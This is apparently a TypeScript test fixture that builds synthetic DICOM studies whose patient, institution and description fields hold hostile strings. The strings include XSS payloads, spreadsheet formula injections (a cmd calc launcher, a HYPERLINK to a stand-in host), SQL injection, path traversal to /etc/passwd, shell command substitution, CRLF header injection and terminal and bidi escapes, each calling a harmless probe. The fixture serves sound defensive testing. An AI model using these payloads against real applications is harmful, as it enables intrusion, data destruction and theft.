import { dataSet, type Row } from '../writing/element.ts';
import { uidFor } from '../writing/random.ts';
import { explicitLittle } from '../writing/write.ts';
import { ctDataSets } from './ct.ts';
import { type SyntheticFile, syntheticFile } from './synthetic-file.ts';

/**
 * Texts that some program somewhere would take for more than text. Whatever of them runs in a page calls `__hostile`
 * with its place in this list, so that a test which defines that function sees it.
 */
const shapes: readonly ((call: string) => string)[] = [
  // Elements and their handlers.
  (call) => `<script>${call}</script>`,
  (call) => `"><script>${call}</script>`,
  (call) => `<ScRiPt src=data:text/javascript,${call}></sCrIpT>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>">`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `<img src=x:${call} onerror=eval(src.slice(2))>`,
  // Out of an attribute, a title, a text area, a comment, a script.
  (call) => `" onmouseover="${call}" x="`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `';${call};//`,
  (call) => `\${${call}}`,
  (call) => `</script><script>${call}//`,
  // Addresses.
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt&#58;${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<form action=javascript:${call}><button>x</button></form>`,
  (call) => `<base href="javascript:${call}//">`,
  // Templates.
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{{${call}}}} <%= ${call} %> #{${call}}`,
  // What a parser turns into something else than it read.
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `&lt;img src=x onerror=${call}&gt; &#x3c;script&#x3e;${call}`,
  (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`,
  (call) => `<style>@import 'data:,x';*{background:url("javascript:${call}")}</style>`,
  (call) => `<div style="position:fixed;inset:0;width:expression(${call})">`,
  (call) => `<meta http-equiv=refresh content="0;javascript:${call}">`,
  // Unclosed.
  (call) => `<script>${call}//`,
  (call) => `<!--<img src="--><img src=x onerror=${call}//`,
  // What a spreadsheet calculates, and what makes it believe that a cell begins anew.
  (call) => `=HYPERLINK("https://hostile.invalid/?${call}","x")`,
  (call) => `+cmd|' /C calc'!A0 ${call}`,
  (call) => `-2+3+cmd|' /C calc'!A0 ${call}`,
  (call) => `@SUM(1+1)*${call}`,
  (call) => `\t=1+1 ${call}`,
  (call) => `\r=1+1 ${call}`,
  (call) => `x",=1+1,"${call}\r\n=1+1`,
  // What terminals, log files and readers follow. The escapes change colour, clear the screen and set the title.
  (call) => `\u001B[31m\u001B[2J\u001B]0;${call}\u0007`,
  (call) => `one\r\n{"level":60,"msg":"${call}"}`,
  (call) => `\u202Egpj.${call}\u202C`,
  (call) => `z\u200Be\u200Dr\u2060o ${call} \uFEFF`,
  (call) => `\u0645\u0631\u062D\u0628\u0627 \u2067${call}\u2069 \u05E9\u05DC\u05D5\u05DD`,
  // Databases, folders, shells, formats.
  (call) => `'; DROP TABLE studies; -- ${call}`,
  (call) => `%' OR 1=1 OR '${call}' LIKE '`,
  (call) => `../../../../etc/passwd ${call}`,
  (call) => `..\\..\\windows\\win.ini ${call}`,
  (call) => `$(touch /tmp/${call}) \`${call}\` ; ${call} | ${call}`,
  (call) => `%s%n%x {0} ${call} %00 %0d%0aSet-Cookie: x=${call}`,
  // What programs confuse with a thing of their own.
  (call) => `__proto__ ${call}`,
  (call) => `constructor ${call}`,
  (call) => `null undefined NaN [object Object] ${call}`,
  // How text can be long, tall or many-coloured.
  (call) => `${call} ${'W'.repeat(3_000)}`,
  (call) => `${call} Z${'\u0351\u0335\u0321'.repeat(60)}`,
  (call) => `\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466} \u{1F3F3}\uFE0F\u200D\u{1F308} \u{10FFFF} ${call}`,
];

export const hostileTexts: readonly string[] = shapes.map((shape, at) => shape(`__hostile(${at})`));

/** Those that a form takes for a name: one line, no control characters, at most so many UTF-16 units. */
export const hostileLines = (longest: number): readonly string[] =>
  hostileTexts
    .filter((text) => !/\p{Cc}/u.test(text))
    .map((text) => text.slice(0, longest).toWellFormed().replaceAll('\uFFFD', '').trim());

/** Names that a file system takes: no slash, at most 200 bytes. */
export const hostileFileNames: readonly string[] = hostileTexts.map((text, at) => {
  const name = Buffer.from(text.replaceAll('/', '\u2215')).subarray(0, 180).toString().replaceAll('\uFFFD', '');
  return `${name}.${at}`;
});

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

/** Text elements of each level, in every VR that holds text. */
const textKeys: readonly string[] = [
  '0008,0050 SH AccessionNumber',
  '0008,0070 LO Manufacturer',
  '0008,0080 LO InstitutionName',
  '0008,0081 ST InstitutionAddress',
  '0008,0090 PN ReferringPhysicianName',
  '0008,0119 UC LongCodeValue',
  '0008,1010 SH StationName',
  '0008,1030 LO StudyDescription',
  '0008,103E LO SeriesDescription',
  '0008,1040 LO InstitutionalDepartmentName',
  '0008,1050 PN PerformingPhysicianName',
  '0008,1070 PN OperatorsName',
  '0008,1080 LO AdmittingDiagnosesDescription',
  '0008,1090 LO ManufacturerModelName',
  '0008,1190 UR RetrieveURL',
  '0008,2111 ST DerivationDescription',
  '0010,0010 PN PatientName',
  '0010,0020 LO PatientID',
  '0010,0021 LO IssuerOfPatientID',
  '0010,1000 LO OtherPatientIDs',
  '0010,1001 PN OtherPatientNames',
  '0010,1040 LO PatientAddress',
  '0010,2160 SH EthnicGroup',
  '0010,21B0 LT AdditionalPatientHistory',
  '0010,4000 LT PatientComments',
  '0018,1000 LO DeviceSerialNumber',
  '0018,1020 LO SoftwareVersions',
  '0018,1030 LO ProtocolName',
  '0018,1210 SH ConvolutionKernel',
  '0020,0010 SH StudyID',
  '0020,4000 LT ImageComments',
  '0028,1054 LO RescaleType',
  '0028,1055 LO WindowCenterWidthExplanation',
  '0032,1060 LO RequestedProcedureDescription',
  '0040,A160 UT TextValue',
];
/** Code strings and the like hold capitals only; a file can say otherwise. */
const codeKeys: readonly string[] = [
  '0010,0040 CS PatientSex',
  '0010,1010 AS PatientAge',
  '0018,0015 CS BodyPartExamined',
];
/** What else a reader puts on a page: hostile in every fifth study, so that the others are found by modality and date. */
const numberKeys: readonly string[] = [
  '0008,0020 DA StudyDate',
  '0008,0030 TM StudyTime',
  '0008,0060 CS Modality',
  '0010,0030 DA PatientBirthDate',
  '0020,0011 IS SeriesNumber',
  '0020,0013 IS InstanceNumber',
];

/** The most characters that a VR holds: PS3.5 Table 6.2-1. */
const limits: Readonly<Record<string, number>> = { SH: 16, LO: 64, PN: 64, ST: 1024, LT: 10_240 };

/**
 * One study for each text, of one small slice, with that text in every element that holds text. In the even ones it is
 * whole, whatever the VR allows; in the odd ones it is cut to the VR's limit.
 */
export function* hostileStudy(seed: number): Generator<SyntheticFile> {
  for (const [at, text] of hostileTexts.entries()) {
    const [slice] = ctDataSets({ seed: seed * 1_000 + at, slices: 1, rows: 32, columns: 32 });
    const within = (key: string): string => {
      const limit = at % 2 === 0 ? undefined : limits[key.slice(10, 12)];
      return limit === undefined ? text : [...text].slice(0, limit).join('');
    };
    const put = (key: string): Row => [key, utf8(within(key))];
    const rows = dataSet(
      slice!,
      [
        ['0008,0005 CS SpecificCharacterSet', 'ISO_IR 192'],
        ['0008,0018 UI SOPInstanceUID', uidFor(seed, `hostile ${at}`)],
      ],
      textKeys.map(put),
      codeKeys.map(put),
      at % 5 === 0 ? numberKeys.map(put) : [],
    );
    yield syntheticFile(`hostile/${at}`, rows, explicitLittle);
  }
}
